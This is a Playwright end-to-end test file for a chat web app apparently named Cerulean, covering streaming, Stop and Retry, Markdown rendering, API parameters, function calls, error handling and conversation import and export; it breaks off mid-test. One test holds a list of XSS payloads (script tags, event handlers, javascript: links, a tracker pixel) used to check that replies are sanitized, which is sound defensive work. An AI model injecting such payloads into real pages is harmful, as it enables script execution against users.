import { writeFile } from 'node:fs/promises';
import {
	askForSchema,
	assistant,
	connect,
	conversationOf,
	expect,
	lastChat,
	log,
	offerFunctions,
	openAsk,
	importConversation,
	openParameters,
	readUpwards,
	send,
	test
} from './fixtures';

function words(count: number) {
	return Array.from({ length: count }, (_, i) => `word${i}`).join(' ');
}

test('a streamed reply appears progressively, and Stop halts it keeping what arrived', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	emulator.reply({ content: words(400) });
	emulator.fail({ kind: 'slow', delayMs: 40 });
	await send(page, 'Tell me a long story');
	const reply = assistant(page);
	await expect(reply).toContainText('word5');
	const early = (await reply.textContent()) ?? '';
	expect(early).not.toContain('word399');
	await expect(reply).toContainText('word40');
	await page.getByRole('button', { name: 'Stop', exact: true }).click();
	await expect(page.getByRole('button', { name: 'Stop', exact: true })).toBeHidden();
	const stopped = (await reply.textContent()) ?? '';
	await page.waitForTimeout(600);
	expect(await reply.textContent()).toBe(stopped);
	expect(stopped).not.toContain('word399');
	// Stopping is a choice, not a failure: marked stopped, with Continue, and no error.
	await expect(reply).toContainText('Stopped.');
	await expect(reply.getByRole('button', { name: 'Continue' })).toBeVisible();
	await expect(reply).not.toContainText('Interrupted');
	await expect(page.getByRole('alert')).toHaveCount(0);
	// What arrived is kept after a reload, still stopped.
	await page.reload();
	await expect(assistant(page)).toContainText('word40');
	await expect(assistant(page).getByRole('button', { name: 'Continue' })).toBeVisible();
});

test('after Send, by pointer or by keyboard, the cursor is in the message box for the next message', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	const message = page.getByLabel('Message', { exact: true });
	const sendButton = page.getByRole('button', { name: 'Send', exact: true });
	emulator.reply({ content: words(300) });
	emulator.fail({ kind: 'slow', delayMs: 20 });
	await send(page, 'First question');
	const stopButton = page.getByRole('button', { name: 'Stop', exact: true });
	await expect(stopButton).toBeVisible();
	// Send is off while the reply streams; the next message can be typed all the same.
	await expect(sendButton).toBeDisabled();
	// Stop comes in beside Send: with the token count shown, Send keeps its row and its place.
	await expect(page.getByText(/tokens in the conversation/)).toBeVisible();
	const [stopBox, sendBox] = [await stopButton.boundingBox(), await sendButton.boundingBox()];
	expect(Math.abs((stopBox?.y ?? 0) - (sendBox?.y ?? -100))).toBeLessThan(2);
	expect(sendBox?.x ?? 0).toBeGreaterThan(stopBox?.x ?? 0);
	await expect(message).toBeFocused();
	await page.keyboard.type('Typed while it streams');
	await expect(message).toHaveValue('Typed while it streams');
	await expect(assistant(page)).toContainText('word299');
	await expect(sendButton).toBeEnabled();

	// From the keyboard: Tab to Send and press it. The button then turns off, and would drop the
	// focus to the page; it comes back to the message box instead.
	emulator.reply({ content: words(40) });
	emulator.fail({ kind: 'slow', delayMs: 20 });
	await sendButton.focus();
	await page.keyboard.press('Enter');
	await expect(page.getByRole('button', { name: 'Stop', exact: true })).toBeVisible();
	await expect(message).toBeFocused();
	await expect(message).toHaveValue('');
	await expect(assistant(page).nth(1)).toContainText('word39');
});

test('text selected in a reply while it streams stays selected as more arrives', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	emulator.reply({ content: `Keep this selected while the rest streams. ${words(400)}` });
	emulator.fail({ kind: 'slow', delayMs: 30 });
	await send(page, 'Tell me a long story');
	const reply = assistant(page);
	await expect(reply).toContainText('word5');
	// The reader selects the opening words of the paragraph still being written.
	await reply.locator('.markdown').evaluate((markdown) => {
		const walker = document.createTreeWalker(markdown, NodeFilter.SHOW_TEXT);
		let node: Node | null;
		while ((node = walker.nextNode()) && !node.nodeValue?.includes('Keep this selected'));
		if (!node) throw new Error('the opening words are not drawn');
		const start = node.nodeValue!.indexOf('Keep this selected');
		const range = document.createRange();
		range.setStart(node, start);
		range.setEnd(node, start + 'Keep this selected'.length);
		getSelection()?.removeAllRanges();
		getSelection()?.addRange(range);
	});
	// Several redraws later, the paragraph has grown and the selection is still there.
	await expect(reply).toContainText('word80');
	expect(await page.evaluate(() => getSelection()?.toString())).toBe('Keep this selected');
	await page.getByRole('button', { name: 'Stop', exact: true }).click();
});

test('renders Markdown with highlighted code and copy buttons', async ({ page, emulator }) => {
	await openAsk(page, emulator);
	emulator.reply({
		content: '# Title\n\nSome **bold** text.\n\n```js\nconst answer = 42;\n```\n\n- one\n- two'
	});
	await send(page, 'format please');
	const reply = assistant(page);
	await expect(reply.getByRole('heading', { name: 'Title' })).toBeVisible();
	await expect(reply.locator('strong')).toHaveText('bold');
	await expect(reply.locator('code.hljs .hljs-keyword').first()).toHaveText('const');
	await expect(reply.getByRole('button', { name: 'Copy code' })).toBeVisible();
	await expect(reply.getByRole('listitem')).toHaveCount(2);
});

test('code is coloured in a reply whose first blocks take more than one slice to draw', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	// Each of these tables takes more than one slice of drawing, so the blocks sharing a group
	// with the code are drawn over several slices, and the group stands in as its source until
	// all are drawn. (A row without spaces is one token of the stream.)
	const rows = Array.from({ length: 2000 }, (_, i) => `|${i}|${i * i}|`).join('\n');
	const table = `|n|square|\n|---|---|\n${rows}`;
	emulator.reply({
		content: `\`\`\`js\nconst answer = 42;\n\`\`\`\n\n${table}\n\n${table}\n\n${table}\n\nDone.`
	});
	await send(page, 'code and tables');
	const reply = assistant(page);
	await expect(reply.locator('table')).toHaveCount(3);
	await expect(reply.getByText('Done.', { exact: true })).toBeVisible();
	await expect(reply.locator('code.hljs .hljs-keyword').first()).toHaveText('const');
});

test('a long table and a long list are drawn as they stream, every row whole and in its place', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	emulator.pace('gpt-4o', { tokenMs: 4 });
	const rows = Array.from({ length: 120 }, (_, i) => [`${i}`, `item ${i}`]);
	const entries = Array.from({ length: 50 }, (_, i) => `entry ${i}`);
	const table = rows.map(([n, name]) => `| ${n} | **${name}** |`).join('\n');
	const list = entries.map((entry) => `- ${entry}\n  - about ${entry}`).join('\n');
	// Then two ordered lists, the second starting at 5, each drawn in turn as the open block.
	const numbered = Array.from(
		{ length: 60 },
		(_, i) => `${i + 5}. ${i ? `step ${i + 5}` : 'five'}`
	);
	emulator.reply({
		content: `| n | name |\n|---:|:---|\n${table}\n\n${list}\n\n1. only\n\n${numbered.join('\n')}\n\nDone.`
	});
	await send(page, 'a table and a list');
	const reply = assistant(page);
	/** The table's rows and the list's entries as shown: [n, name] and [entry, about]. */
	const shown = () =>
		reply.evaluate((article) => ({
			tables: article.querySelectorAll('table').length,
			rows: [...article.querySelectorAll('table tr')].map((tr) =>
				[...tr.children].map((cell) => cell.textContent ?? '')
			),
			entries: [...article.querySelectorAll('.markdown ul:not(li ul) > li')].map((li) => [
				li.firstChild?.textContent?.trim() ?? '',
				li.querySelector('li')?.textContent ?? ''
			]),
			fiveStarts: [...article.querySelectorAll('ol')]
				.filter((ol) => ol.textContent?.includes('five'))
				.map((ol) => ol.getAttribute('start'))
		}));
	// Looked at again and again while they stream: all but the row being written are whole.
	let midway = 0;
	// Drawn, not only there as the source a group stands in with until it is drawn.
	while (!(await reply.getByText('Done.', { exact: true }).isVisible())) {
		const now = await shown();
		expect(now.tables).toBeLessThanOrEqual(1);
		expect(now.fiveStarts.every((start) => start === '5')).toBe(true);
		if (!now.rows.length) continue;
		expect(now.rows[0]).toEqual(['n', 'name']);
		expect(now.rows.slice(1, -1)).toEqual(rows.slice(0, Math.max(0, now.rows.length - 2)));
		expect(now.entries.slice(0, -1)).toEqual(
			entries.slice(0, Math.max(0, now.entries.length - 1)).map((e) => [e, `about ${e}`])
		);
		if (now.rows.length > 3 && now.rows.length < 100) midway++;
	}
	expect(midway).toBeGreaterThan(2);
	await expect(reply.locator('table tr')).toHaveCount(121);
	const done = await shown();
	expect(done.fiveStarts).toEqual(['5']);
	expect(done.rows).toEqual([['n', 'name'], ...rows]);
	expect(done.entries).toEqual(entries.map((e) => [e, `about ${e}`]));
	await expect(reply.locator('td[align="right"]')).toHaveCount(120);
	await expect(reply.locator('td strong').last()).toHaveText('item 119');
});

test('a table read while it streams keeps its selection and its sideways scroll when it ends', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	emulator.pace('gpt-4o', { tokenMs: 4 });
	// Twelve columns: wider than the reply, so the table scrolls sideways in its own box.
	const columns = Array.from({ length: 12 }, (_, c) => `column ${c}`);
	const rows = Array.from(
		{ length: 40 },
		(_, r) => `| ${columns.map((c) => `${c} row ${r}`).join(' | ')} |`
	);
	emulator.reply({
		content: `| ${columns.join(' | ')} |\n|${columns.map(() => '---').join('|')}|\n${rows.join('\n')}\n\nDone.`
	});
	await send(page, 'a wide table');
	const reply = assistant(page);
	const table = reply.locator('table');
	await expect(table.locator('tbody tr').nth(10)).toBeAttached();
	// The reader selects the first row's first cell and scrolls the table sideways, mid-stream.
	await table.evaluate((element) => {
		const cell = element.querySelector('tbody td');
		if (!cell) throw new Error('no cell');
		getSelection()?.selectAllChildren(cell);
	});
	await table.hover();
	await page.mouse.wheel(240, 0);
	await expect.poll(() => table.evaluate((element) => element.scrollLeft)).toBeGreaterThan(100);
	await expect(reply).toContainText('column 11 row 25');
	const scrolled = await table.evaluate((element) => element.scrollLeft);
	await expect(reply.getByText('Done.', { exact: true })).toBeVisible({ timeout: 30_000 });
	await expect(reply).not.toHaveAttribute('aria-busy', 'true');
	await expect(table.locator('tbody tr')).toHaveCount(40);
	// The table that ended is the one the reader was using: nothing selected or scrolled is lost.
	expect(await page.evaluate(() => getSelection()?.toString())).toBe('column 0 row 0');
	expect(await table.evaluate((element) => element.scrollLeft)).toBe(scrolled);
});

test('code in a streamed reply is highlighted in the stream worker, not on the page', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	// Paced, as a model writes: the grammar loads in the worker while the first fence is written
	// (about three seconds of it here, ample even on a busy machine).
	emulator.pace('gpt-4o', { tokenMs: 20 });
	const long = 'const answer = 42;\nconsole.log(answer);\n'.repeat(30);
	const code = 'let total = 0;\nfor (const n of [1, 2, 3]) total += n;\n';
	emulator.reply({
		content: `Two snippets.\n\n\`\`\`js\n${long}\`\`\`\n\nAnd a short one:\n\n\`\`\`js\n${code}\`\`\`\n\nDone.`
	});
	await send(page, 'code please');
	const reply = assistant(page);
	await expect(reply.getByRole('button', { name: 'Copy code' })).toHaveCount(2);
	await expect(reply.locator('code.hljs')).toHaveCount(2);
	await expect(reply.locator('code.hljs .hljs-keyword').first()).toHaveText('const');
	// The colours change no character of the code.
	await expect(reply.locator('code.hljs').last()).toHaveText(code);
	// The page itself never loaded highlight.js (whose core alone has highlightAuto).
	const scripts = await page.evaluate(() =>
		Promise.all(
			performance
				.getEntriesByType('resource')
				.map((entry) => entry.name)
				.filter((url) => url.endsWith('.js'))
				.map(async (url) => ({
					url,
					core: (await (await fetch(url)).text()).includes('highlightAuto')
				}))
		)
	);
	expect(scripts.length).toBeGreaterThan(0);
	expect(scripts.filter((script) => script.core).map((script) => script.url)).toEqual([]);
});

test('every parameter reaches the wire with its value; untouched ones stay off it', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	await page.getByLabel('System message').fill('Be terse.');
	await send(page, 'plain request');
	await expect(assistant(page)).toContainText('plain request');
	const plain = lastChat(emulator)?.json;
	expect(Object.keys(plain).sort()).toEqual(['messages', 'stream', 'stream_options']);
	expect(plain.messages[0]).toEqual({ role: 'system', content: 'Be terse.' });
	expect(plain.stream_options).toEqual({ include_usage: true });

	await openParameters(page);
	await page.getByLabel('Response Format').selectOption('json_object');
	await page.getByLabel('Max Tokens').fill('300');
	await page.getByLabel('Number of Chat Completion Choices').fill('2');
	await page.getByLabel('Temperature').fill('0.3');
	await page.getByLabel('Frequency Penalty').fill('0.5');
	await page.getByLabel('Presence Penalty').fill('-0.5');
	await page.getByLabel('Logit Bias').fill('{"50256": -100}');
	await page.getByLabel('Top P').fill('0.8');
	await page.getByLabel('Stop sequences').fill('END');
	await page.getByRole('button', { name: 'Add stop sequence' }).click();
	await page.getByLabel('Stop sequences').fill('###');
	await page.getByLabel('Stop sequences').press('Enter');
	await offerFunctions(page, ['calculate']);
	await page.getByLabel('User', { exact: true }).fill('alice@example.com');
	await page.getByLabel('Seed').fill('7');
	emulator.reply({ content: ['{"a":1}', '{"b":2}'] });
	await send(page, 'Answer in JSON');
	await expect(assistant(page).nth(1)).toContainText('"b": 2');
	expect(lastChat(emulator)?.json).toMatchObject({
		response_format: { type: 'json_object' },
		max_tokens: 300,
		n: 2,
		temperature: 0.3,
		frequency_penalty: 0.5,
		presence_penalty: -0.5,
		logit_bias: { '50256': -100 },
		top_p: 0.8,
		stop: ['END', '###'],
		tools: [{ type: 'function', function: { name: 'calculate' } }],
		user: 'alice@example.com',
		seed: 7,
		stream: true
	});

	// Parameters are kept with the conversation.
	await page.reload();
	await openParameters(page);
	await expect(page.getByLabel('Temperature')).toHaveValue('0.3');
	await expect(page.getByRole('button', { name: 'Remove stop sequence ###' })).toBeVisible();
});

test('bad parameters get a message beside the field and nothing is sent', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	await openParameters(page);
	await page.getByLabel('Temperature').fill('3');
	await page.getByLabel('Logit Bias').fill('{"abc": 5}');
	await send(page, 'hello');
	await expect(page.getByText('Temperature must be between 0 and 2.')).toBeVisible();
	await expect(page.getByText('keys are token ids')).toBeVisible();
	await expect(page.getByText('Fix the 2 parameters marked under Parameters.')).toBeVisible();
	await expect(page.getByLabel('Message', { exact: true })).toHaveValue('hello');
	expect(lastChat(emulator)).toBeUndefined();
});

test('reasoning mode sends max_completion_tokens and reasoning effort, and is detected from the error', async ({
	page,
	emulator
}) => {
	await connect(page, emulator, { apiVersion: '2025-04-01-preview' });
	await page.goto('ask');
	await page.getByLabel('Model').fill('o4-mini');
	await openParameters(page);
	await page.getByLabel('Max Tokens').fill('2000');
	await page.getByLabel('Temperature').fill('0.5');
	await send(page, 'think');
	await expect(
		page.getByRole('status').filter({ hasText: 'is a reasoning deployment' })
	).toBeVisible();
	await expect(assistant(page)).toContainText('think');
	const body = lastChat(emulator)?.json;
	expect(body.max_completion_tokens).toBe(2000);
	expect(body).not.toHaveProperty('max_tokens');
	expect(body).not.toHaveProperty('temperature');
	await expect(page.getByLabel('Reasoning deployment')).toBeChecked();
	await page.getByLabel('Reasoning effort').selectOption('high');
	await send(page, 'think harder');
	await expect(assistant(page).nth(1)).toContainText('think harder');
	expect(lastChat(emulator)?.json.reasoning_effort).toBe('high');
});

test('n=3 shows three choices and the chosen one continues the conversation', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	await openParameters(page);
	await page.getByLabel('Number of Chat Completion Choices').fill('3');
	emulator.reply({ content: ['Apple', 'Banana', 'Cherry'] });
	await send(page, 'Pick a fruit');
	const reply = assistant(page);
	for (const [i, fruit] of ['Apple', 'Banana', 'Cherry'].entries()) {
		await expect(reply.getByRole('region', { name: `Choice ${i + 1}` })).toContainText(fruit);
	}
	await reply.getByRole('button', { name: 'Continue with choice 2' }).click();
	await expect(reply.getByRole('button', { name: 'Continues the conversation' })).toBeVisible();
	await page.getByLabel('Number of Chat Completion Choices').fill('');
	await send(page, 'Why?');
	await expect(assistant(page).nth(1)).toContainText('Why?');
	const messages = lastChat(emulator)?.json.messages;
	expect(messages.at(-2)).toEqual({ role: 'assistant', content: 'Banana' });
});

test('a built-in function call is answered in the browser and the model continues', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	await openParameters(page);
	await offerFunctions(page, ['calculate', 'get_current_time']);
	await send(page, 'Please calculate 6 * 7');
	const conversation = log(page);
	await expect(conversation.getByRole('article', { name: /^tool/ })).toContainText('"result":42');
	await expect(assistant(page).first()).toContainText('Calls calculate with');
	await expect(assistant(page).nth(1)).toContainText('The function returned');
	const calls = emulator.requests.filter((r) => r.path.endsWith('/chat/completions'));
	expect(calls).toHaveLength(2);
	const toolMessage = calls[1]?.json.messages.at(-1);
	expect(toolMessage).toMatchObject({ role: 'tool', content: expect.stringContaining('42') });
	expect(calls[1]?.json.messages.at(-2).tool_calls[0].function.name).toBe('calculate');
});

test('a user-answered function call waits for the typed result, then continues', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	await openParameters(page);
	await page.getByText('Function library').click();
	await page.getByLabel('Function name').fill('lookup_order');
	await page.getByLabel('Function description').fill('Finds an order');
	await page
		.getByLabel('Function parameters (JSON Schema)')
		.fill('{"type":"object","properties":{"id":{"type":"string"}}}');
	await page.getByRole('button', { name: 'Add function' }).click();
	await offerFunctions(page, ['lookup_order']);
	emulator.reply({ toolCalls: [{ name: 'lookup_order', arguments: '{"id":"A-17"}' }] });
	await send(page, 'Where is my order A-17?');
	await expect(assistant(page)).toContainText('"id": "A-17"');
	await page.getByLabel('Result for lookup_order').fill('Shipped on Monday');
	await page.getByRole('button', { name: 'Send result' }).click();
	await expect(assistant(page).nth(1)).toContainText('The function returned: Shipped on Monday');
	expect(lastChat(emulator)?.json.tools[0].function).toMatchObject({
		name: 'lookup_order',
		description: 'Finds an order'
	});
	// The library is kept on this device.
	await page.reload();
	await openParameters(page);
	await expect(
		page.getByRole('group', { name: 'Functions' }).getByRole('checkbox', { name: /^lookup_order/ })
	).toHaveCount(1);
});

// Every failure kind on every page: tests/e2e/faults.e2e.ts. What is particular to Ask:
test.describe('errors keep the typed text and say what to do', () => {
	test('a bad request names the parameter the service named', async ({ page, emulator }) => {
		await openAsk(page, emulator);
		emulator.fail({
			kind: 'bad-request',
			param: 'messages',
			message: "This model's maximum context length is 128000 tokens."
		});
		await send(page, 'a very long question');
		const alert = page.getByRole('alert');
		await expect(alert).toContainText('The service rejected the request (parameter "messages")');
		await expect(alert).toContainText('maximum context length is 128000 tokens');
		await expect(log(page).getByRole('article', { name: /^user/ })).toContainText(
			'a very long question'
		);
	});

	test('an unknown deployment explains deployment names', async ({ page, emulator }) => {
		await openAsk(page, emulator, 'gpt-4-turbo');
		await send(page, 'hello there');
		const alert = page.getByRole('alert');
		await expect(alert).toContainText('No deployment named "gpt-4-turbo"');
		await expect(alert).toContainText('not always the model name');
	});

	test('a 429 counts down from the delay in the message and retries by itself', async ({
		page,
		emulator
	}) => {
		await openAsk(page, emulator);
		emulator.fail({ kind: 'rate-limit', retryAfter: 2 });
		await send(page, 'rate limited question');
		await expect(page.getByRole('alert')).toContainText('Azure asks to retry after 2 seconds');
		await expect(
			page.getByRole('status').filter({ hasText: /Retrying in \d s \(attempt 1 of 3\)/ })
		).toBeVisible();
		await expect(assistant(page)).toContainText('rate limited question', { timeout: 8000 });
		expect(emulator.requests.filter((r) => r.path.endsWith('/chat/completions'))).toHaveLength(2);
	});

	test('a 429 retry can be cancelled', async ({ page, emulator }) => {
		await openAsk(page, emulator);
		emulator.fail({ kind: 'rate-limit', retryAfter: 30 });
		await send(page, 'patience');
		await page.getByRole('button', { name: 'Cancel retry' }).click();
		await expect(page.getByRole('button', { name: 'Retry' })).toBeVisible();
		await page.waitForTimeout(1200);
		expect(emulator.requests.filter((r) => r.path.endsWith('/chat/completions'))).toHaveLength(1);
	});
});

test('a dropped stream keeps the partial reply, marked interrupted, with Retry', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	emulator.reply({ content: words(50) });
	emulator.fail({ kind: 'drop', afterChunks: 12 });
	await send(page, 'this will drop');
	const reply = assistant(page);
	await expect(page.getByRole('alert')).toContainText('The connection dropped');
	await expect(reply).toContainText('word5');
	await expect(reply).toContainText('Interrupted');
	expect((await reply.textContent()) ?? '').not.toContain('word49');
	await reply.getByRole('button', { name: 'Retry' }).click();
	await expect(assistant(page)).toHaveCount(1);
	await expect(assistant(page)).toContainText('this will drop');
});

test('a reload mid-stream keeps what had arrived', async ({ page, emulator }) => {
	await openAsk(page, emulator);
	emulator.reply({ content: words(300) });
	emulator.fail({ kind: 'slow', delayMs: 30 });
	await send(page, 'long one');
	await expect(assistant(page)).toContainText('word60');
	// Past one checkpoint interval, everything shown a second ago is on disk.
	await page.waitForTimeout(1100);
	const shown = (await assistant(page).textContent()) ?? '';
	const lastWord = Number(/word(\d+)(?!.*word\d)/s.exec(shown)?.[1]);
	await page.reload();
	const kept = assistant(page);
	await expect(kept).toContainText('Interrupted');
	const keptText = (await kept.textContent()) ?? '';
	const keptLast = Number(/word(\d+)(?!.*word\d)/s.exec(keptText)?.[1]);
	expect(keptLast).toBeGreaterThan(40);
	// At most about a second of text is lost: the emulator sends ~33 words a second.
	expect(lastWord - keptLast).toBeLessThan(45);
	await expect(log(page).getByRole('article', { name: /^user/ })).toContainText('long one');
});

test('export as JSON then import gives back the same conversation', async ({ page, emulator }) => {
	await openAsk(page, emulator);
	await page.getByLabel('System message').fill('You are helpful.');
	await openParameters(page);
	await page.getByLabel('Temperature').fill('0.4');
	await send(page, 'First question');
	await expect(assistant(page)).toContainText('First question');
	await send(page, 'Second question');
	await expect(assistant(page).nth(1)).toContainText('Second question');

	const downloadPromise = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export JSON' }).click();
	const download = await downloadPromise;
	expect(download.suggestedFilename()).toBe('First-question.json');
	const file = await download.path();

	const markdownPromise = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export Markdown' }).click();
	const markdown = await (await markdownPromise).path();
	const { readFile } = await import('node:fs/promises');
	const md = await readFile(markdown, 'utf8');
	expect(md).toContain('# First question');
	expect(md).toContain('## User\n\nSecond question');

	await page.getByRole('button', { name: 'Delete conversation' }).click();
	await page.getByRole('button', { name: 'Delete', exact: true }).click();
	await expect(log(page).getByRole('article')).toHaveCount(0);

	await page.getByLabel('Import JSON').setInputFiles(file);
	await expect(log(page).getByRole('article')).toHaveCount(4);
	await expect(log(page).getByRole('article', { name: /^user/ }).nth(1)).toContainText(
		'Second question'
	);
	await expect(page.getByLabel('System message')).toHaveValue('You are helpful.');
	await expect(page.getByLabel('Temperature')).toHaveValue('0.4');
	const original = JSON.parse(await readFile(file, 'utf8')).conversation;
	const reexport = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export JSON' }).click();
	const again = JSON.parse(await readFile(await (await reexport).path(), 'utf8')).conversation;
	expect({ ...again, id: original.id, updatedAt: original.updatedAt }).toEqual(original);
});

test('a bad import file is refused with a reason and nothing changes', async ({
	page,
	emulator
}, testInfo) => {
	await openAsk(page, emulator);
	await send(page, 'keep me');
	await expect(assistant(page)).toContainText('keep me');
	await page.getByLabel('Import JSON').setInputFiles({
		name: 'broken.json',
		mimeType: 'application/json',
		buffer: Buffer.from('{"format":"cerulean.conversation","version":1,"conversation":{"id":1}}')
	});
	await expect(page.getByRole('alert')).toContainText('This is not a Cerulean conversation');
	await expect(log(page).getByRole('article', { name: /^user/ })).toContainText('keep me');
	await expect(page.getByRole('list', { name: 'Conversations' }).getByRole('listitem')).toHaveCount(
		1
	);
	// Not JSON, a list of many conversations, and a file past the size limit: each says why.
	const refusals: [string, Buffer | string, RegExp][] = [
		['notes.json', Buffer.from('not json at all'), /not JSON/],
		[
			'all.json',
			Buffer.from(JSON.stringify(Array.from({ length: 10_000 }, (_, i) => ({ id: `c${i}` })))),
			/not a Cerulean conversation/
		],
		['huge.json', testInfo.outputPath('huge.json'), /imports conversations of up to 50 MB/]
	];
	await writeFile(testInfo.outputPath('huge.json'), Buffer.alloc(51 * 1048576, 32));
	for (const [name, content, says] of refusals) {
		await page
			.getByLabel('Import JSON')
			.setInputFiles(
				typeof content === 'string'
					? content
					: { name, mimeType: 'application/json', buffer: content }
			);
		await expect(page.getByRole('alert')).toContainText(says);
	}
	await expect(page.getByRole('list', { name: 'Conversations' }).getByRole('listitem')).toHaveCount(
		1
	);
});

test('deeply nested data neither breaks an import nor stops the other messages being drawn', async ({
	page,
	emulator
}) => {
	const errors: string[] = [];
	page.on('pageerror', (error) => errors.push(error.message));
	await openAsk(page, emulator);
	const conversation = (messages: object[]) => conversationOf('deep', 'Deep', messages);
	// JSON nested 100,000 deep where a message's role should be: refused, saying where.
	const deep = '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000);
	const file = JSON.stringify({
		format: 'cerulean.conversation',
		version: 1,
		conversation: conversation([{ id: 'u', role: 'user', content: 'hi', createdAt: 1 }])
	}).replace('"role":"user"', `"role":${deep}`);
	await page.getByLabel('Import JSON').setInputFiles({
		name: 'deep.json',
		mimeType: 'application/json',
		buffer: Buffer.from(file)
	});
	await expect(page.getByRole('alert')).toContainText('not a Cerulean conversation');

	// A reply of 20,000 nested quotes overflows the Markdown parser: it is shown as text, and the
	// messages before it are still drawn as Markdown.
	await importConversation(
		page,
		conversation([
			{ id: 'u1', role: 'user', content: 'first', createdAt: 1 },
			{ id: 'a1', role: 'assistant', content: 'an **older** reply', createdAt: 2 },
			{ id: 'u2', role: 'user', content: 'second', createdAt: 3 },
			{ id: 'a2', role: 'assistant', content: `${'>'.repeat(20_000)} deep`, createdAt: 4 }
		])
	);
	await expect(assistant(page).first().locator('strong')).toHaveText('older');
	await expect(assistant(page).last()).toContainText('>>>> deep');
	expect(errors).toEqual([]);
	await page.getByLabel('Message', { exact: true }).fill('still works');
	await page.getByRole('button', { name: 'Send', exact: true }).click();
	await expect(assistant(page)).toHaveCount(3);
	await expect(assistant(page).last()).toContainText('still works');
});

test('conversations can be switched, renamed, searched and edited from a message', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	await send(page, 'About cats');
	await expect(assistant(page)).toContainText('About cats');
	await page.getByRole('button', { name: 'New conversation' }).click();
	await send(page, 'About dogs');
	await expect(assistant(page)).toContainText('About dogs');
	const list = page.getByRole('list', { name: 'Conversations' });
	await expect(list.getByRole('listitem')).toHaveCount(2);

	await page.getByRole('button', { name: 'Rename' }).click();
	await page.getByLabel('New title').fill('Dog chat');
	await page.getByLabel('New title').press('Enter');
	await expect(list.getByRole('button', { name: /Dog chat/ })).toBeVisible();

	// Found by what was said in it, not only by its title.
	await page.getByLabel('Search conversations').fill('about dogs');
	await expect(list.getByRole('listitem')).toHaveCount(1);
	await expect(list.getByRole('button', { name: /Dog chat/ })).toBeVisible();
	await page.getByLabel('Search conversations').fill('no such words');
	await expect(list.getByRole('listitem')).toHaveCount(0);
	await expect(page.getByText('No conversation matches.')).toBeVisible();
	await page.getByLabel('Search conversations').fill('cats');
	await expect(list.getByRole('listitem')).toHaveCount(1);
	await list.getByRole('button', { name: /About cats/ }).click();
	await expect(log(page).getByRole('article', { name: /^user/ })).toContainText('About cats');
	await page.getByLabel('Search conversations').fill('');

	await log(page).getByRole('button', { name: 'Edit' }).click();
	await page.getByLabel('Edit message').fill('About lions');
	await page.getByRole('button', { name: 'Resend' }).click();
	await expect(assistant(page)).toContainText('About lions');
	await expect(assistant(page)).toHaveCount(1);

	await log(page).getByRole('button', { name: 'Regenerate' }).click();
	await expect(assistant(page)).toContainText('About lions');
	expect(emulator.requests.filter((r) => r.path.endsWith('/chat/completions'))).toHaveLength(4);
});

test('a reply made of XSS payloads runs no script and loads nothing from other hosts', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	const payloads = [
		'<script>window.__xss = "script"</script>',
		'<img src=x onerror="window.__xss = \'onerror\'">',
		"[click me](javascript:window.__xss='link')",
		'<svg onload="window.__xss = \'svg\'"><circle r="5"/></svg>',
		'<iframe src="javascript:parent.__xss=\'iframe\'"></iframe>',
		'<a href="javascript:window.__xss=\'anchor\'">anchor</a>',
		'<div onmouseover="window.__xss=\'hover\'">hover me</div>',
		'![tracker](https://tracker.example.com/pixel.png)',
		'<math><mi xlink:href="javascript:window.__xss=\'math\'">m</mi></math>',
		'<form action="javascript:window.__xss=\'form\'"><button>go</button></form>',
		'<object data="javascript:window.__xss=\'object\'"></object>',
		'<style>body{display:none}</style>'
	];
	emulator.reply({ content: payloads.join('\n\n') + '\n\nThe end.' });
	await send(page, 'attack');
	const reply = assistant(page);
	await expect(reply).toContainText('The end.');
	await reply.getByText('hover me').hover();
	await reply.getByText('click me').click();
	await reply.getByText('anchor', { exact: true }).click();
	expect(await page.evaluate(() => (window as { __xss?: string }).__xss)).toBeUndefined();
	// The reply's own content (the app's icons beside it are SVG too).
	const content = reply.locator('.markdown');
	expect(await content.locator('script, iframe, svg, object, form, style, math').count()).toBe(0);
	expect(await reply.locator('[onerror], [onload], [onmouseover]').count()).toBe(0);
	await expect(reply.getByRole('link', { name: '[image: tracker]' })).toBeVisible();
	await expect(page.locator('body')).toBeVisible();
});

test('a long reply that arrives all at once is drawn as Markdown, never shown as its source first', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	const parts = Array.from(
		{ length: 60 },
		(_, i) =>
			`## Part ${i + 1}\n\n| a | b |\n|---|---|\n| ${i} | **x** |\n\n\`\`\`js\nconst part = ${i};\n\`\`\``
	);
	emulator.reply({ content: parts.join('\n\n') });
	// Notes whether the reply's Markdown source was ever on the page, as the plain text a message
	// from history shows until its Markdown is drawn.
	await page.evaluate(() => {
		const seen = window as unknown as { sourceShown: boolean };
		seen.sourceShown = false;
		new MutationObserver(() => {
			const plain = document.querySelector('article .markdown > p.plain');
			if (plain?.textContent?.includes('|---|')) seen.sourceShown = true;
		}).observe(document.body, { childList: true, subtree: true, characterData: true });
	});
	await send(page, 'All at once');
	const reply = assistant(page);
	await expect(reply.locator('h2').last()).toHaveText('Part 60');
	// The part above the screen is drawn as it is scrolled to.
	await readUpwards(page);
	await expect(reply.locator('h2').first()).toHaveText('Part 1');
	await expect(reply.locator('table')).toHaveCount(60);
	await expect(reply.getByRole('button', { name: 'Copy code' })).toHaveCount(60);
	const shown = await page.evaluate(
		() => (window as unknown as { sourceShown: boolean }).sourceShown
	);
	expect(shown).toBe(false);
});

test('a reply cannot imitate the app, and Copy code copies exactly the code shown', async ({
	page,
	context,
	emulator
}) => {
	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
	await openAsk(page, emulator);
